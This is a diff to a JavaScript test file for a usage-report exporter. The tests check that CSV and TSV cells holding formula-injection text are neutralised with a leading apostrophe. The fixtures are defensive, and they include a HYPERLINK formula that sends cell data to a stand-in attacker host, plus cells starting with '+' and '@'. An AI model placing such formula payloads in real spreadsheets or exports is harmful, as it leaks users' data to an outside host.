@@ -45,8 +45,8 @@ const report = buildReport(
 
 describe('the report files', () => {
   it('TSV: hostile text cells start with an apostrophe; the rest of the layout is unchanged', () => {
-    const lines = reportText(report, 'tsv').split('\r\n');
-    expect(lines[3]).toBe('Institution_Name\t\'+Evil, "College"');
+    const lines = reportText(report, 'tsv').slice(1).split('\n');
+    expect(lines[3].replace(/\t+$/, '')).toBe('Institution_Name\t\'+Evil, "College"');
     const rows = lines.slice(15, 17).map((l) => l.split('\t'));
     expect(rows[0].slice(0, 2)).toEqual(['\'=HYPERLINK("https://evil.example/?"&A1,"Click")', "'@Publisher"]);
     expect(rows[0].slice(-3)).toEqual(['Total_Item_Requests', '3', '3']);
@@ -67,8 +67,8 @@ describe('the report files', () => {
   });
 
   it('CSV: a guarded cell is also quoted, its quotes doubled', () => {
-    const lines = reportText(report, 'csv').split('\r\n');
-    expect(lines[3]).toBe('Institution_Name,"\'+Evil, ""College"""');
+    const lines = reportText(report, 'csv').slice(1).split('\r\n');
+    expect(lines[3].replace(/,+$/, '')).toBe('Institution_Name,"\'+Evil, ""College"""');
     expect(lines[15].startsWith('"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")","\'@Publisher",,Lectern,')).toBe(true);
     expect(lines[15].endsWith(',Total_Item_Requests,3,3')).toBe(true);
     expect(lines[16]).toBe('Plain Title,Meridian,,Lectern,,Lectern:11,,,https://lectern.example/magazine/11,Total_Item_Requests,2,2');
